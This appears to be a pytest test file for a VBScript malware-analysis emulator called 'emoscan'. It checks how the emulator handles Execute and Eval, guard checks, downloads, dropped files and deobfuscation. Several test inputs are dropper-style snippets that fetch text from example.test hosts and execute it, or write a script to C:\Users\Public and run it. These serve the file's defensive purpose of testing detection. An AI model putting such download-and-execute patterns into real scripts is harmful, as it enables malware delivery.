"""VBScript: code outside procedures, texts run as code, the script host, and the ways a script is run."""

from __future__ import annotations

import pytest

from emoscan.budget import Budget, LimitReached, Limits
from emoscan.evaluate.vba.script import Script, evaluate
from emoscan.model import Child, Fact, Problem


def run(*blocks, name="a.vbs", page=None, **limits):
    """(effects as (kind, value), children, everything)"""
    found = []
    script = Script(blocks, name, "\n".join(blocks).encode(), page)
    evaluate(script, Budget(Limits(seconds=60, **limits)), found.append)
    return found


def effects(found, kind):
    return [item.value for item in found if isinstance(item, Fact) and item.kind == f"effect.{kind}"]


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("WScript.Echo 1, 2", ["1 2"]),
        ('x = "a" : y = x & "b"\nWScript.Echo y', ["ab"]),
        ("Sub s(v)\nWScript.Echo v\nEnd Sub\ns 5", ["5"]),
        ("[my name] = 3\nWScript.Echo [my name]", ["3"]),
        # Execute sees the variables of the procedure it stands in, and its parameters
        ('Function f(a)\nDim b\nb = 2\nExecute "f = a + b"\nEnd Function\nWScript.Echo f(1)', ["3"]),
        ('Function f(a)\nf = Eval("a * 10")\nEnd Function\nWScript.Echo f(4)', ["40"]),
        ('Sub s\nDim x\nx = 1\nExecute "x = x + 1"\nWScript.Echo x\nEnd Sub\nx = 10\ns\nWScript.Echo x', ["2", "10"]),
        ('Sub s(ByVal a())\nEnd Sub\nSub t\nDim a(2)\na(1) = 7\nExecute "WScript.Echo a(1)"\nEnd Sub\nt', ["7"]),
        (
            'Function f(s)\nFor i = 1 To 3\nf = f & Eval("Mid(s, i, 1)")\nNext\nEnd Function\ng = "xyz"\nWScript.Echo f(g), f("abc")',
            ["xyz abc"],
        ),
        ('Execute "Function k(n)" & vbCrLf & "k = n * n" & vbCrLf & "End Function"\nWScript.Echo k(3)', ["9"]),
        ('Sub s\nExecuteGlobal "z = 4"\nEnd Sub\ns\nWScript.Echo z', ["4"]),
        ('Set o = Eval("CreateObject(""Scripting.Dictionary"")")\no.Add "a", 1\nWScript.Echo o.Count', ["1"]),
        # classes with default members
        ("Class C\nPublic Default Function V(n)\nV = n + 1\nEnd Function\nEnd Class\nSet o = New C\nWScript.Echo o(1)", ["2"]),
        (
            'Class C\nPrivate s\nSub Class_Initialize\ns = "i"\nEnd Sub\nProperty Get P\nP = s\nEnd Property\nEnd Class\nWScript.Echo "" & (New C).P',
            ["i"],
        ),
        (
            'Class C\nPublic v\nFunction F(n)\nF = Eval("v + n")\nEnd Function\nEnd Class\nSet o = New C\no.v = 2\nWScript.Echo o.F(3)',
            ["5"],
        ),
        ('Set f = GetRef("g")\nFunction g(n)\nWScript.Echo n\ng = n * 2\nEnd Function\nf 2\nWScript.Echo f(3)', ["2", "3", "6"]),
        ('Class C\nSub Class_Initialize\nExecuteGlobal "WScript.Echo 1"\nEnd Sub\nEnd Class\nSet o = New C', ["1"]),
        (
            'Class C\nPrivate s\nSub Class_Initialize\ns = 4\nEnd Sub\nSub Class_Terminate\nExecute "WScript.Echo s"\nEnd Sub\nEnd Class\nSet o = New C\nSet o = Nothing',
            ["4"],
        ),
        ('Set f = GetRef("g")\nFunction g(n)\ng = n\nEnd Function\nWScript.Echo TypeName(f)', ["callback"]),
        ("On Error Resume Next\nx = 1 / 0\nWScript.Echo Err.Number", ["11"]),
        ("WScript.Echo WScript.ScriptName", ["a.vbs"]),
        (
            'Set f = CreateObject("Scripting.FileSystemObject").OpenTextFile(WScript.ScriptFullName)\nWScript.Echo f.ReadLine <> ""',
            ["True"],
        ),
    ],
)
def test_what_scripts_say(source, said):
    assert effects(run(source), "dialog") == said


def test_a_script_ends_where_it_says():
    found = run('CreateObject("WScript.Shell").Run "a.exe"\nWScript.Quit\nCreateObject("WScript.Shell").Run "b.exe"')
    assert effects(found, "run") == ["a.exe"]


def test_text_that_is_run_becomes_an_artifact_once():
    found = run('For i = 1 To 50\nExecute "x = 1"\nNext')
    layers = [item for item in found if isinstance(item, Child) and item.how == "Execute"]
    assert [layer.data for layer in layers] == [b"x = 1"]


def test_an_error_does_not_hide_what_follows():
    """Something not modelled may have failed: when nothing was seen, the script runs again and goes on after errors."""
    found = run('x = 1 / 0\nCreateObject("WScript.Shell").Run "a.exe"')
    assert effects(found, "run") == ["a.exe"]


def test_a_guard_that_ends_the_script_is_passed():
    found = run('If CreateObject("WScript.Network").UserName <> "smith" Then WScript.Quit\nCreateObject("WScript.Shell").Run "a.exe"')
    assert effects(found, "run") == ["a.exe"]


def test_a_file_that_is_not_here_is_told_by_its_name():
    """It may lie there because something else brought it, and then its content is what runs."""
    found = run('ExecuteGlobal CreateObject("Scripting.FileSystemObject").OpenTextFile("C:\\pub\\b.vbs").ReadAll')
    assert effects(found, "eval") == ["<Unknown: content of file C:\\pub\\b.vbs>"]


def test_a_request_that_decides_is_answered_both_ways():
    source = """
    Set x = CreateObject("MSXML2.XMLHTTP")
    x.Open "GET", "http://check.example.test/", False
    x.Send
    If x.Status = 200 Then
    Else
        x.Open "GET", "http://files.example.test/a", False
        x.Send
        Execute x.responseText
    End If
    """
    assert effects(run(source), "download") == ["http://check.example.test/", "http://files.example.test/a"]


def test_the_other_addresses_of_a_list_are_tried():
    source = """
    For Each u In Array("http://a.example.test/", "http://b.example.test/")
        Set x = CreateObject("MSXML2.XMLHTTP")
        x.Open "GET", u, False
        x.Send
        If x.Status = 200 Then
            CreateObject("WScript.Shell").Run "a.exe"
            WScript.Quit
        End If
    Next
    """
    assert effects(run(source), "download") == ["http://a.example.test/", "http://b.example.test/"]


def test_procedures_that_nothing_calls_are_run_with_less_certainty():
    found = run('Function never(a)\nCreateObject("WScript.Shell").Run "a.exe"\nEnd Function')
    assert [item.confidence for item in found if isinstance(item, Fact) and item.kind == "effect.run"] == [0.5]


def test_what_it_drops_and_runs_becomes_an_artifact():
    source = """
    Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile("C:\\Users\\Public\\b.js")
    f.Write "WScript.Echo(1)"
    f.Close
    CreateObject("WScript.Shell").Run "wscript C:\\Users\\Public\\b.js"
    """
    children = [(item.label, item.data) for item in run(source) if isinstance(item, Child)]
    assert ("C:\\Users\\Public\\b.js", b"WScript.Echo(1)") in children


def test_blocks_of_a_page_share_their_names_and_its_window():
    found = run("x = 2", 'window.resizeTo 0, 0\nCreateObject("WScript.Shell").Run "a" & x\nself.close', page="<html>")
    assert effects(found, "run") == ["a2"]


def test_procedures_of_a_page_that_its_events_call():
    found = run('Sub window_onload\nCreateObject("WScript.Shell").Run "a"\nEnd Sub', page="<html>")
    assert [item.confidence for item in found if isinstance(item, Fact) and item.kind == "effect.run"] == [1.0]


def test_statements_nobody_can_read_are_named():
    found = run("x = = 2\nWScript.Echo 1")
    assert [item.value for item in found if isinstance(item, Fact) and item.kind == "vba.bad_statement"] == ["x = = 2"]


def test_simplified_source_shows_what_ran():
    source = 'a = "htt" & "p://"\nb = a & StrReverse("tset.elpmaxe")\njunk = 5\nCreateObject("WScript.Shell").Run b'
    (simplified,) = [item for item in run(source) if isinstance(item, Child) and item.how == "simplified"]
    assert b'b = "http://example.test"' in simplified.data
    assert b"' => run: http://example.test" in simplified.data


@pytest.mark.parametrize(
    "source",
    [
        "Do\nx = x + 1\nLoop",
        'x = "a"\nDo\nx = x & x\nLoop',
        "Sub s\ns\nEnd Sub\ns",
        's = "Execute s"\nExecute s',
        'Do\nCreateObject("WScript.Shell").Run "a" & n\nn = n + 1\nLoop',
        "While True\nWScript.Sleep 1000\nWend",
        "Class C\nSub Class_Initialize\nSet x = New C\nEnd Sub\nEnd Class\nSet o = New C",
    ],
)
def test_endless_scripts_end(source):
    found = []
    try:
        evaluate(Script((source,), "a.vbs"), Budget(Limits(seconds=60, operations=200_000)), found.append)
    except LimitReached:
        return
    assert any(isinstance(item, Problem) and item.sort == "limit" for item in found)
